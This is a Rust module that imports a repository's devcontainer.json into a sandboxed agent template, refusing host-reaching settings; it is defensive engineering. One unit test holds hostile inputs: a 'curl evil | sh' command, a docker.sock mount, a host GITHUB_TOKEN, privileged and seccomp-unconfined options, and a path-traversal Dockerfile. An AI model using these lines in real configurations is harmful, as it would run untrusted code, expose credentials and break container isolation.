//! A repository's dev container imported into an operator-owned template, behind a
//! trust gate (SPEC §7b): `git treebox template import-devcontainer`.
//!
//! treebox never reads container config from a repository on its own: a repository's
//! file could run commands on the host, and an agent can rewrite it. So this is an
//! explicit import, shown as a plan and agreed to once, of the file as committed at
//! the main checkout's `HEAD` — never the work tree, never a box — into a template
//! under the user's config, which records the file's blob id. `create` and `doctor`
//! say when the committed file has changed since.
//!
//! What maps: `image` (the base of treebox's own template, whose agent account,
//! `setpriv`, firewall and agent CLIs stay on top), `containerEnv`/`remoteEnv`, and
//! the lifecycle commands (`onCreateCommand`, `updateContentCommand`,
//! `postCreateCommand` at create; `postStartCommand` at every start), run in the
//! container as the agent. What is refused, each with its reason: anything that runs
//! on or reaches into the host (`initializeCommand`, a host variable in an env value,
//! mounts, engine arguments, privileges), registry artifacts (`features`), a root
//! user, and for now a Dockerfile or Compose build. The rest is listed as not used.

use std::collections::BTreeMap;

use serde_json::{json, Map, Value};

mod build;
mod keys;
pub use build::{base_files, BaseRequest, BASE_CONTEXT, BASE_DOCKERFILE};
use keys::{commands, environment, forward_ports, mounts};

/// Where a repository keeps its dev container, in the order looked at.
pub const CANDIDATES: [&str; 2] = [".devcontainer/devcontainer.json", ".devcontainer.json"];
/// The most of a committed `devcontainer.json` read.
pub const MAX_BYTES: usize = 256 << 10;
/// The file in an imported template that records where it came from.
pub const PROVENANCE: &str = "devcontainer-import.json";
/// The most lifecycle commands taken from one file.
const MAX_COMMANDS: usize = 64;

/// The committed `devcontainer.json` of a repository's `HEAD`.
#[derive(Debug, Clone)]
pub struct Committed {
    /// Its path in the repository.
    pub path: &'static str,
    pub blob: git2::Oid,
    pub commit: git2::Oid,
    pub bytes: Vec<u8>,
}

#[derive(Debug, thiserror::Error)]
pub enum DevcontainerError {
    #[error("the repository's HEAD names no commit: {0}")]
    NoHead(git2::Error),
    #[error("`{path}` at HEAD is {what}")]
    NotAFile {
        path: &'static str,
        what: &'static str,
    },
    #[error("`{path}` at HEAD is {size} bytes, over the {MAX_BYTES}-byte cap")]
    TooLarge { path: &'static str, size: usize },
    #[error("`{path}` at HEAD is not JSON with comments: {why}")]
    Unparsable { path: &'static str, why: String },
    #[error("could not read the repository: {0}")]
    Git(#[from] git2::Error),
}

/// The committed dev container file of `repo`'s `HEAD`, `None` when there is none.
/// The work tree and the index are never looked at.
pub fn committed(repo: &git2::Repository) -> Result<Option<Committed>, DevcontainerError> {
    let commit = repo
        .head()
        .and_then(|h| h.peel_to_commit())
        .map_err(DevcontainerError::NoHead)?;
    let tree = commit.tree()?;
    for path in CANDIDATES {
        let Ok(entry) = tree.get_path(std::path::Path::new(path)) else {
            continue;
        };
        match entry.filemode() {
            0o100644 | 0o100755 => {}
            0o120000 => {
                return Err(DevcontainerError::NotAFile {
                    path,
                    what: "a symbolic link (only a file is read)",
                })
            }
            _ => {
                return Err(DevcontainerError::NotAFile {
                    path,
                    what: "not a file",
                })
            }
        }
        let blob = repo.find_blob(entry.id())?;
        if blob.size() > MAX_BYTES {
            return Err(DevcontainerError::TooLarge {
                path,
                size: blob.size(),
            });
        }
        return Ok(Some(Committed {
            path,
            blob: blob.id(),
            commit: commit.id(),
            bytes: blob.content().to_vec(),
        }));
    }
    Ok(None)
}

/// A dev container as JSON with comments and trailing commas, as its projects write it.
pub fn parse(c: &Committed) -> Result<Map<String, Value>, DevcontainerError> {
    let unparsable = |why: String| DevcontainerError::Unparsable { path: c.path, why };
    let text = std::str::from_utf8(&c.bytes).map_err(|_| unparsable("not UTF-8".into()))?;
    let value: Option<Value> = jsonc_parser::parse_to_serde_value(text, &Default::default())
        .map_err(|e| unparsable(crate::sanitize::line(&e.to_string())))?;
    match value {
        Some(Value::Object(m)) => Ok(m),
        _ => Err(unparsable("the top level is not an object".into())),
    }
}

/// What an import would do: the template's `container.json`, and what of the file was
/// taken, refused and not used.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct Plan {
    /// The template's `container.json`: the bundled template's, with what was mapped.
    pub spec: Map<String, Value>,
    /// Each key taken, and what it became.
    pub mapped: Vec<(String, String)>,
    /// Each key (or part of one) refused, and why; an import with any is refused.
    pub refused: Vec<(String, String)>,
    /// Keys not used, each with a note where there is something to say.
    pub unused: Vec<(String, String)>,
    /// The file's own image build (`build`), to be taken from the same commit.
    pub base: Option<BaseRequest>,
}

/// Keys of a dev container that say nothing a box needs.
const QUIET: &[&str] = &[
    "$schema",
    "name",
    "customizations",
    "hostRequirements",
    "otherPortsAttributes",
    "portsAttributes",
    "userEnvProbe",
    "waitFor",
    "updateRemoteUserUID",
];

/// The plan for importing `dc` (the file at `path` in the repository) onto the bundled
/// template's `container.json` (`base`).
pub fn plan(dc: &Map<String, Value>, path: &str, base: &Map<String, Value>) -> Plan {
    let mut p = Plan {
        spec: base.clone(),
        ..Plan::default()
    };
    let refuse = |p: &mut Plan, key: &str, why: &str| p.refused.push((key.into(), why.into()));
    let mut env: BTreeMap<String, String> = BTreeMap::new();
    let mut post_create: Vec<String> = Vec::new();
    let mut post_start: Vec<String> = Vec::new();
    for (key, value) in dc {
        let k = key.as_str();
        match k {
            "image" => match value.as_str() {
                Some(image) => {
                    p.spec.insert("baseImage".into(), json!(image));
                    p.mapped
                        .push((k.into(), format!("the base image: `{}`", shown(image))));
                }
                None => refuse(&mut p, k, "must be a string"),
            },
            "build" => build::build(&mut p, path, value),
            "dockerFile" | "dockerfile" => {
                // The older spelling: `dockerFile` and `context` at the top level.
                let legacy = json!({"dockerfile": value, "context": dc.get("context").cloned().unwrap_or(json!("."))});
                build::build(&mut p, path, &legacy);
            }
            "context" => {}
            "dockerComposeFile" | "service" | "runServices" => refuse(
                &mut p,
                k,
                "a Compose project is not a box: treebox runs one container per box",
            ),
            "initializeCommand" => refuse(
                &mut p,
                k,
                "it runs on the host, and nothing a repository says runs there",
            ),
            "features" => {
                let ids: Vec<String> = value
                    .as_object()
                    .map(|m| m.keys().map(|f| format!("`{}`", shown(f))).collect())
                    .unwrap_or_default();
                if value.as_object().is_some_and(|m| m.is_empty()) {
                    p.unused.push((k.into(), "empty".into()));
                } else {
                    p.refused.push((
                        k.into(),
                        format!(
                            "{} {} pulled from a registry at build: install {} in the template's Dockerfile instead",
                            ids.join(", "),
                            if ids.len() == 1 { "is an OCI artifact" } else { "are OCI artifacts" },
                            if ids.len() == 1 { "it" } else { "them" }
                        ),
                    ));
                }
            }
            "mounts" => mounts(&mut p, value),
            "runArgs" | "securityOpt" | "capAdd" => {
                if value.as_array().is_some_and(|a| a.is_empty()) {
                    p.unused.push((k.into(), "empty".into()));
                } else {
                    refuse(
                        &mut p,
                        k,
                        "the container's engine arguments, capabilities and security options are treebox's: a box gets no more than its template grants",
                    );
                }
            }
            "privileged" => {
                if value == &Value::Bool(false) {
                    p.unused.push((k.into(), "false".into()));
                } else {
                    refuse(&mut p, k, "a privileged container can reach the host");
                }
            }
            "remoteUser" | "containerUser" => match value.as_str() {
                Some("root" | "0") => refuse(
                    &mut p,
                    k,
                    "the agent never runs as root: treebox makes its own account, `agent`, from the base image's uid-1000 user",
                ),
                Some(u) => p.mapped.push((
                    k.into(),
                    format!(
                        "noted: the agent runs as treebox's account `agent`, made from the base image's uid-1000 user (`{}` when it has that uid)",
                        shown(u)
                    ),
                )),
                None => refuse(&mut p, k, "must be a string"),
            },
            "containerEnv" | "remoteEnv" => environment(&mut p, k, value, &mut env),
            "onCreateCommand" | "updateContentCommand" | "postCreateCommand" => {
                commands(&mut p, k, value, &mut post_create, "at create");
            }
            "postStartCommand" => commands(&mut p, k, value, &mut post_start, "at every start"),
            "postAttachCommand" => p.unused.push((
                k.into(),
                "runs when an editor attaches; a box has no such moment".into(),
            )),
            "forwardPorts" => forward_ports(&mut p, value),
            "appPort" => p.unused.push((
                k.into(),
                "a box publishes its own block of ports (`$TREEBOX_PORT`, see `git treebox open`)"
                    .into(),
            )),
            "workspaceFolder" | "workspaceMount" => p.unused.push((
                k.into(),
                "the box is mounted at its own path, the same inside and out".into(),
            )),
            "overrideCommand" | "shutdownAction" | "init" => p.unused.push((
                k.into(),
                "treebox runs the container's first process itself".into(),
            )),
            _ if QUIET.contains(&k) => p.unused.push((k.into(), String::new())),
            _ => p.unused.push((shown(k), "not a key treebox knows".into())),
        }
    }
    let builds = ["build", "dockerFile", "dockerfile"]
        .iter()
        .any(|k| dc.contains_key(*k));
    if builds && dc.contains_key("image") {
        refuse(
            &mut p,
            "image",
            "the file names both an image and a build: keep one",
        );
    }
    if let Some(b) = &p.base {
        p.spec.remove("baseImage");
        p.spec.insert(
            "baseBuild".into(),
            json!({"dockerfile": BASE_DOCKERFILE, "context": BASE_CONTEXT, "args": b.args}),
        );
    }
    if !dc.contains_key("image") && !builds {
        p.refused.push((
            "image".into(),
            "the file names no image: a box needs one to build on".into(),
        ));
    }
    if !env.is_empty() {
        let mut all: Map<String, Value> = p
            .spec
            .get("env")
            .and_then(Value::as_object)
            .cloned()
            .unwrap_or_default();
        all.extend(env.into_iter().map(|(k, v)| (k, Value::String(v))));
        p.spec.insert("env".into(), Value::Object(all));
    }
    p.spec.insert("postCreate".into(), json!(post_create));
    if !post_start.is_empty() {
        p.spec.insert("postStart".into(), json!(post_start));
    }
    // What the template's own checks say of the result (a credential-looking name, a
    // bad image reference) refuses it too.
    let (_, problems) = super::ContainerSpec::parse(
        &serde_json::to_vec(&p.spec).expect("a map serializes"),
        "the imported container.json",
    );
    p.refused.extend(
        problems
            .into_iter()
            .map(|why| ("container.json".into(), why)),
    );
    p
}

/// Where an imported template came from, as [`PROVENANCE`] records it.
pub fn provenance(main_root: &std::path::Path, c: &Committed, spec: &Map<String, Value>) -> Value {
    json!({
        "schemaVersion": 1,
        "repo": main_root,
        "path": c.path,
        "blob": c.blob.to_string(),
        "commit": c.commit.to_string(),
        "importedAt": crate::state::record::now(),
        "containerJson": spec,
    })
}

/// An imported template's record of where it came from: the repository's main
/// checkout, the file's path and its blob id then, and the `container.json` made.
#[derive(Debug, Clone, PartialEq)]
pub struct Imported {
    pub repo: std::path::PathBuf,
    pub path: String,
    pub blob: String,
    pub container_json: Map<String, Value>,
}

/// The provenance of template `t`, when it was imported (and the record reads).
pub fn imported(t: &super::Template) -> Option<Imported> {
    let file = t.files().iter().find(|f| f.path == PROVENANCE)?;
    let v: Value = serde_json::from_slice(&file.contents).ok()?;
    Some(Imported {
        repo: v["repo"].as_str()?.into(),
        path: v["path"]
            .as_str()
            .filter(|p| CANDIDATES.contains(p))?
            .to_string(),
        blob: v["blob"].as_str().filter(|b| b.len() == 40)?.to_string(),
        container_json: v["containerJson"].as_object().cloned().unwrap_or_default(),
    })
}

/// A warning when template `name` was imported from this repository's dev container and
/// the file committed at `HEAD` has changed (or gone) since; `None` otherwise.
pub fn drift(repo: &crate::git::Repo, name: Option<&str>) -> Option<String> {
    let name = name.unwrap_or(super::BUNDLED_NAME);
    let was = imported(&super::find(name).ok()?)?;
    same_repo(repo, &was)
        .then(|| changed(repo, name, &was))
        .flatten()
}

/// The user's templates imported from this repository's dev container, each with its
/// [`drift`] warning.
pub fn imported_here(repo: &crate::git::Repo) -> Vec<(String, Option<String>)> {
    super::list()
        .unwrap_or_default()
        .into_iter()
        .filter(|t| matches!(t.source, super::Source::User(_)))
        .filter_map(|t| {
            let was = imported(&super::find(&t.name).ok()?)?;
            same_repo(repo, &was).then(|| {
                let warning = changed(repo, &t.name, &was);
                (t.name, warning)
            })
        })
        .collect()
}

fn same_repo(repo: &crate::git::Repo, was: &Imported) -> bool {
    match (
        std::fs::canonicalize(&was.repo),
        std::fs::canonicalize(&repo.main_root),
    ) {
        (Ok(a), Ok(b)) => a == b,
        _ => false,
    }
}

fn changed(repo: &crate::git::Repo, name: &str, was: &Imported) -> Option<String> {
    let now = committed(&repo.git).ok()?;
    let changed = match &now {
        Some(c) => c.blob.to_string() != was.blob || c.path != was.path,
        None => true,
    };
    changed.then(|| {
        format!(
            "the repository's dev container ({}) has {} since template `{name}` was imported from it: `git treebox template import-devcontainer {name}` shows what changed",
            was.path,
            if now.is_some() { "changed" } else { "gone" }
        )
    })
}

/// The lines that differ between two `container.json`s, key by key (`-` before, `+`
/// after; each value as JSON, cut at 200 characters, for the caller to sanitise), for
/// a second import of the same template.
pub fn diff(before: &Map<String, Value>, after: &Map<String, Value>) -> Vec<String> {
    let mut keys: Vec<&String> = before.keys().chain(after.keys()).collect();
    keys.sort();
    keys.dedup();
    let mut out = Vec::new();
    for k in keys {
        let (b, a) = (before.get(k), after.get(k));
        if b == a {
            continue;
        }
        let cut = |v: &Value| -> String { v.to_string().chars().take(200).collect() };
        if let Some(b) = b {
            out.push(format!("- {k}: {}", cut(b)));
        }
        if let Some(a) = a {
            out.push(format!("+ {k}: {}", cut(a)));
        }
    }
    out
}

/// A value of the repository's file, safe to show: one line, cut.
fn shown(s: &str) -> String {
    super::shown(s)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn base() -> Map<String, Value> {
        json!({"baseImage": "node:22", "env": {"DISABLE_AUTOUPDATER": "1"}, "postCreate": []})
            .as_object()
            .cloned()
            .unwrap()
    }

    fn planned(text: &str) -> Plan {
        let c = Committed {
            path: CANDIDATES[0],
            blob: git2::Oid::ZERO_SHA1,
            commit: git2::Oid::ZERO_SHA1,
            bytes: text.as_bytes().to_vec(),
        };
        plan(&parse(&c).unwrap(), c.path, &base())
    }

    #[test]
    fn comments_trailing_commas_and_every_command_form() {
        let p = planned(
            r#"{
              // The toolchain.
              "image": "python:3.12-slim",
              "containerEnv": {"PIP_NO_CACHE": "1",},
              "remoteEnv": {"APP_MODE": "dev"},
              /* Three forms. */
              "onCreateCommand": ["pip", "install", "-e", ".[dev] x"],
              "postCreateCommand": {"deps": "make deps", "marker": ["touch", "${containerWorkspaceFolder}/m"]},
              "postStartCommand": "echo started",
              "customizations": {"vscode": {}},
            }"#,
        );
        assert!(p.refused.is_empty(), "{:?}", p.refused);
        assert_eq!(p.spec["baseImage"], "python:3.12-slim");
        assert_eq!(
            p.spec["env"],
            json!({"APP_MODE": "dev", "DISABLE_AUTOUPDATER": "1", "PIP_NO_CACHE": "1"})
        );
        assert_eq!(
            p.spec["postCreate"],
            json!([
                "pip install -e '.[dev] x'",
                "make deps",
                "touch '${containerWorkspaceFolder}/m'"
            ])
        );
        assert_eq!(p.spec["postStart"], json!(["echo started"]));
        assert!(p.unused.iter().any(|(k, _)| k == "customizations"));
    }

    #[test]
    fn what_reaches_the_host_is_refused_each_with_its_reason() {
        let p = planned(
            r#"{"image": "x", "initializeCommand": "curl evil | sh",
                "features": {"ghcr.io/devcontainers/features/node:1": {}},
                "remoteUser": "root", "runArgs": ["--network=host"], "privileged": true,
                "capAdd": ["SYS_ADMIN"], "securityOpt": ["seccomp=unconfined"],
                "containerEnv": {"TOKEN_FROM_HOST": "${localEnv:GITHUB_TOKEN}"},
                "mounts": ["source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind"],
                "build": {"dockerfile": "Dockerfile"}}"#,
        );
        let keys: Vec<&str> = p.refused.iter().map(|(k, _)| k.as_str()).collect();
        for k in [
            "initializeCommand",
            "features",
            "remoteUser",
            "runArgs",
            "privileged",
            "capAdd",
            "securityOpt",
            "containerEnv.TOKEN_FROM_HOST",
            "mounts[0]",
            "image",
        ] {
            assert!(keys.contains(&k), "{k} not refused: {:?}", p.refused);
        }
        let why = |k: &str| &p.refused.iter().find(|(r, _)| r == k).unwrap().1;
        assert!(why("features").contains("ghcr.io/devcontainers/features/node:1"));
        assert!(why("initializeCommand").contains("host"));
    }

    #[test]
    fn a_build_stays_inside_the_repository_and_its_copies_are_found() {
        let p = planned(
            r#"{"build": {"dockerfile": "Dockerfile", "context": "..", "args": {"V": "3.12",},},}"#,
        );
        assert!(p.refused.is_empty(), "{:?}", p.refused);
        let b = p.base.clone().unwrap();
        assert_eq!(
            (b.dockerfile.as_str(), b.context.as_str()),
            (".devcontainer/Dockerfile", "")
        );
        assert_eq!(p.spec["baseBuild"]["args"]["V"], "3.12");
        assert!(p.spec.get("baseImage").is_none());
        let out = planned(r#"{"build": {"dockerfile": "../../etc/Dockerfile"}}"#);
        assert_eq!(out.refused[0].0, "build.dockerfile", "{:?}", out.refused);
        let legacy = planned(r#"{"dockerFile": "Dockerfile", "context": "."}"#);
        assert_eq!(legacy.base.unwrap().context, ".devcontainer");

        let copies = |d: &str| build::copied_sources(d.as_bytes());
        assert_eq!(
            copies("FROM x\nCOPY --chown=1:1 req.txt ./tools/ /opt/\nADD [\"a b\", \"/c\"]\nCOPY --from=build /x /y\n"),
            Some(vec!["req.txt".into(), "tools".into(), "a b".into()])
        );
        assert_eq!(copies("FROM x\nCOPY . /src\n"), None);
        assert_eq!(copies("FROM x\nCOPY *.txt /src/\n"), None);
        assert_eq!(copies("FROM x\nRUN true\n"), Some(vec![]));
    }

    #[test]
    fn no_image_is_refused_and_a_read_only_part_of_the_repo_is_not_needed() {
        let p = planned(
            r#"{"mounts": ["source=${localWorkspaceFolder}/data,target=/data,type=bind,readonly"]}"#,
        );
        assert_eq!(p.refused.len(), 1, "{:?}", p.refused);
        assert_eq!(p.refused[0].0, "image");
        assert!(p.unused.iter().any(|(k, _)| k == "mounts[0]"));
    }
}
